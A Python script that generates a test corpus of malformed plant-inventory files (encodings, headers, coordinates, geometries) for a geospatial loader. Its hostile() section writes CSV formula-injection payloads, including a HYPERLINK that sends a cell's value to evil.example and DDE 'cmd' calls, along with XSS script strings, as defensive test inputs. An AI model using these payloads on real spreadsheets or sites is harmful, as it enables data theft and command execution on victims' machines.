"""Write the corpus of nasty inventory files in ``tests/data/corpus`` (deterministic).

Run ``python tests/data/make_corpus.py`` after changing it; the files are committed, so the
tests read them as they are. What each file checks, and what the loader must do with it, is in
``tests/data/corpus.yaml``. Table files carry their own expectation per row in their first
column, ``expect``: ``ok`` for a row that must be accepted, else the reason codes it must be
rejected with (``;``-separated).
"""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent / "corpus"
HEADER = [
    "expect",
    "编号",
    "企业名称",
    "行业",
    "所在县",
    "产业政策类别",
    "达标排放",
    "经度",
    "纬度",
]
GOOD = ["ok", "A1", "甲铸造厂", "铸造", "榆次区", "限制类", "是", "112.75", "37.69"]


def row(expect: str, id_: str, lon: str = "112.75", lat: str = "37.69", **cells: str) -> list:
    out = list(GOOD)
    out[0], out[1], out[7], out[8] = expect, id_, lon, lat
    for key, value in cells.items():
        out[{"name": 2, "industry": 3, "county": 4, "policy": 5, "compliant": 6}[key]] = value
    return out


def csv_text(rows: list[list[str]], delimiter: str = ",", end: str = "\r\n") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=end).writerows(rows)
    return buffer.getvalue()


def write(name: str, data: bytes | str, encoding: str = "utf-8") -> None:
    path = HERE / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))


def good_rows(n: int, start: int = 1) -> list[list[str]]:
    return [row("ok", f"G{i}") for i in range(start, start + n)]


def numbers() -> None:
    rows = [
        HEADER,
        row("ok", "N1", "１１２．７５", "３７．６９"),
        row("ok", "N2", "112。75", "37。69"),
        row("ok", "N3", "112°45′00″E", "37°41′24″N"),
        row("ok", "N4", "112度45分", "37度41分24秒"),
        row("ok", "N5", " 112.75 ", "\t37.69"),
        row("lon_lat_swapped", "N6", "37°41'24\"N", "112°45'"),  # DMS in the wrong columns
        row("zero_coordinates", "N7", "0", "0"),
        row("missing_coordinates", "N8", "NaN", "37.69"),
        row("not_a_number", "N9", "inf", "37.69"),
        row("not_a_number", "N10", "112.75", "-Infinity"),
        row("not_a_number", "N11", "112,75", "37.69"),
        row("lon_lat_swapped", "N12", "37.69", "112.75"),
        row("outside_china", "N13", "106.9", "47.9"),
        row("outside_china", "N14", "200", "37.69"),
        row("missing_coordinates", "N15", "", ""),
        row("not_a_number", "N16", "一一二点七五", "37.69"),
        row("looks_projected", "N17", "38500000", "4170000"),
    ]
    write("numbers.csv", csv_text(rows))


def encodings() -> None:
    rows = [HEADER, *good_rows(3)]
    write("gbk.csv", csv_text(rows), "gbk")
    write("utf8_bom_semicolon.csv", csv_text(rows, ";"), "utf-8-sig")
    write("utf16_tab.txt", csv_text(rows, "\t"), "utf-16")
    # rows 4 and 5 appended from a GBK tool to a UTF-8 file: read line by line, kept, warned
    head = csv_text([HEADER, *good_rows(2)]).encode("utf-8")
    tail = csv_text([row("ok", "M3", name="太谷焦化厂"), row("ok", "M4", county="太谷区")])
    write("mixed_encoding.csv", head + tail.encode("gbk"))
    # a row with bytes that are neither UTF-8 nor GBK is rejected, the others read
    body = csv_text([HEADER, *good_rows(2)]).encode("utf-8")
    broken = csv_text([row("bad_encoding", "B3", name="XX厂")]).encode("utf-8")
    write("bad_bytes.csv", body + broken.replace(b"XX", b"\xff\xfe"))
    # Big5 (traditional Chinese) headers decode as GB18030 nonsense: no header is recognised
    write("big5.csv", csv_text([["編號", "經度", "緯度"], ["A1", "112.75", "37.69"]]), "big5")
    write("old_mac_cr.csv", csv_text([HEADER, *good_rows(3)], end="\r"))
    text = csv_text([HEADER, *good_rows(3)])
    write("nul_bytes.csv", text.replace("甲铸造厂", "甲\x00铸造厂"))


def truncated() -> None:
    # cut inside the 3-byte UTF-8 of the last row's industry (铸造): its lon/lat are lost and
    # the broken character is unreadable
    expect = "bad_encoding;unknown_code;missing_coordinates"
    rows = [HEADER, *good_rows(3), row(expect, "T4")]
    data = csv_text(rows).encode("utf-8")
    write("truncated.csv", data[: data.rindex("铸造".encode()) + 2])
    rows = [HEADER, *good_rows(2), ["ok", "Q3", '"甲,乙"厂', "铸造", "", "", "", "112.75", "37.69"]]
    text = csv_text(rows)
    write("unclosed_quote.csv", text + 'missing_coordinates,Q4,"丙厂,铸造,榆次区\r\n')


def headers() -> None:
    title = ["晋中市2019-2020年秋冬季错峰生产企业名单"] + [""] * (len(HEADER) - 1)
    groups = ["", "企业信息", "", "", "", "", "", "坐标", ""]
    sub = list(HEADER)
    top = list(HEADER)
    top[7:9] = ["坐标", ""]
    sub[:7] = [""] * 7
    sub[7:9] = ["经度", "纬度"]
    write("two_row_header.csv", csv_text([title, top, sub, *good_rows(2)]))
    write("group_title_row.csv", csv_text([title, groups, HEADER, *good_rows(2)]))
    dup = [*HEADER, "经度"]
    write("duplicate_headers.csv", csv_text([dup, [*GOOD, "112.7"]]))
    unknown = [*HEADER, "备注", "备注", "Note", "note"]
    write("duplicate_unknown_headers.csv", csv_text([unknown, [*GOOD, "a", "b", "c", "d"]]))
    reserved = [*HEADER[:3], "", *HEADER[3:], "row", "reason", "geometry", "FID", "__x__"]
    values = [*GOOD[:3], "blank header", *GOOD[3:], "7", "none", "POINT (1 1)", "x", "1"]
    reserved.append("__overlong__")
    values.append("True")
    write("reserved_headers.csv", csv_text([reserved, values]))
    rows = [HEADER, *good_rows(2)]
    rows.append([*row("extra_cells", "E3"), "surplus"])
    rows.append(["missing_coordinates", "E5", "短行厂", "铸造"])  # a short row
    rows.append(["ok", "E6", "尾部空单元格厂", "铸造", "", "", "", "112.75", "37.69", "", "", ""])
    write("extra_and_missing_cells.csv", csv_text(rows))
    blank = (
        csv_text([HEADER, *good_rows(1)]) + ",,,,,,,,\r\n   \r\n\r\n" + csv_text(good_rows(1, 2))
    )
    write("blank_lines.csv", blank)
    write("only_header.csv", csv_text([HEADER]))
    write("empty.csv", b"")
    write("whitespace_only.csv", "  \r\n \r\n")
    write("no_header.csv", csv_text([["foo", "bar"], ["1", "2"]]))
    write("no_coordinates.csv", csv_text([["编号", "企业名称"], ["A1", "甲"]]))


def hostile() -> None:
    names = [
        '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "<script>alert('x')</script>甲厂",
        '<img src=x onerror="alert(1)">',
        '"quoted", with comma\nand newline',
        "​zero​width‮RTL override",
    ]
    rows = [HEADER] + [row("ok", f"H{i}", name=name) for i, name in enumerate(names, 1)]
    rows.append(row("ok", "=1+1", county="=1+1县"))
    write("hostile_text.csv", csv_text(rows))


def junk() -> None:
    rng = random.Random(20191101)
    blob = bytes(rng.randrange(256) for _ in range(2048))
    for name in ("random_bytes.csv", "random_bytes.xlsx", "random_bytes.gpkg", "random.geojson"):
        write(name, blob)
    write("not_geojson.geojson", json.dumps({"hello": [1, 2, 3]}))
    write("plain.docx", b"PK\x03\x04")


def excel() -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "名单"
    width = len(HEADER)
    sheet.append(["晋中市错峰生产企业名单"])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=width)
    sheet.append(["填报说明：经纬度填十进制度"])
    sheet.append([])
    sheet.append([h if i < 7 else ("坐标" if i == 7 else None) for i, h in enumerate(HEADER)])
    sheet.append([None] * 7 + ["经度", "纬度"])
    for j in range(1, 8):  # single headers span both header rows
        sheet.merge_cells(start_row=4, start_column=j, end_row=5, end_column=j)
    sheet.merge_cells(start_row=4, start_column=8, end_row=4, end_column=9)
    data = [
        ["ok", "X1", "甲厂", "铸造", "榆次区", "限制类", True, 112.75, 37.69],
        ["ok", "X2", "乙厂", "焦化", None, "允许类", False, "112°45′", "37。7"],
        ["ok", "X3", "丙厂", "水泥", None, "允许类", None, 112.76, 37.70],
        ["not_a_number", "X4", "丁厂", "水泥", "太谷区", "", "", "#N/A", 37.7],
        ["ok", 1005, "戊厂", "铸造", "太谷区", "", "", 112.5, 37.4],
        ["ok", "X6", "己厂", "铸造", "太谷区", "", "", "112.5", "37.4"],
    ]
    for values in data:
        sheet.append(values)
    sheet.merge_cells("E6:E8")  # county 榆次区 merged over three plants: copied to each
    sheet.append([])
    sheet.append(["empty_id;missing_coordinates", None, "备注：以上数据由县环保局提供"])
    workbook.create_sheet("说明").append(["这一页不是数据"])
    workbook.save(HERE / "merged_header.xlsx")
    raw = (HERE / "merged_header.xlsx").read_bytes()
    write("truncated.xlsx", raw[: len(raw) // 2])
    # a valid zip that is not a workbook
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    write("zip_not_workbook.xlsx", buffer.getvalue())


def geometries() -> None:
    def feature(expect: str, id_: str, geometry: dict | None, **props: object) -> dict:
        properties = {"expect": expect, "id": id_, "name": f"{id_}厂", "industry": "foundry"}
        properties.update(props)
        return {"type": "Feature", "properties": properties, "geometry": geometry}

    def point(*xy: float) -> dict:
        return {"type": "Point", "coordinates": list(xy)}

    bowtie = [[112.7, 37.6], [112.8, 37.7], [112.8, 37.6], [112.7, 37.7], [112.7, 37.6]]
    features = [
        feature("ok", "P1", point(112.75, 37.69)),
        feature("ok", "P2", point(112.75, 37.69, 812.5)),  # 3D: Z dropped
        feature("ok", "P3", {"type": "MultiPoint", "coordinates": [[112.75, 37.69]]}),
        feature("multi_part", "P4", {"type": "MultiPoint", "coordinates": [[112.7, 37.6]] * 3}),
        # GDAL reads an empty GeoJSON point as no geometry (the GPKG test has a real empty one)
        feature("missing_coordinates", "P5", {"type": "Point", "coordinates": []}),
        feature("not_a_point", "P6", {"type": "Polygon", "coordinates": [bowtie]}),
        feature("not_a_point", "P7", {"type": "LineString", "coordinates": bowtie[:2]}),
        feature("missing_coordinates", "P8", None),
        feature("ok", "P9", None, lon="112.75", lat="37.69"),  # no geometry: lon/lat columns
        feature("outside_china", "P10", point(2.35, 48.85)),
        feature("lon_lat_swapped", "P11", point(37.69, 112.75)),
        feature("zero_coordinates", "P12", point(0, 0)),
    ]
    collection = {"type": "FeatureCollection", "features": features}
    write("geometry_problems.geojson", json.dumps(collection, ensure_ascii=False))
    # projected metres in a GeoJSON (GeoJSON is WGS84 by definition)
    projected = {
        "type": "FeatureCollection",
        "features": [
            feature("looks_projected", "Q1", point(38_523_456.1, 4_172_345.6)),
            feature("looks_projected", "Q2", point(523_456.1, 4_172_345.6)),
        ],
    }
    write("projected_as_degrees.geojson", json.dumps(projected, ensure_ascii=False))
    # degrees in a layer that says it is projected (old-style GeoJSON 'crs' member)
    degrees = {
        "type": "FeatureCollection",
        "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::4547"}},
        "features": [feature("looks_geographic", "R1", point(112.75, 37.69))],
    }
    write("degrees_in_projected.geojson", json.dumps(degrees, ensure_ascii=False))
    # a CSV of Gauss-Kruger metres with the zone prefix, read as the default wgs84
    rows = [["expect", "id", "x", "y"], ["looks_projected", "S1", "38523456.1", "4172345.6"]]
    write("projected_as_degrees.csv", csv_text(rows))


def main() -> None:
    HERE.mkdir(exist_ok=True)
    for make in (numbers, encodings, truncated, headers, hostile, junk, excel, geometries):
        make()
    print(f"wrote {len(list(HERE.iterdir()))} files to {HERE}")


if __name__ == "__main__":
    main()
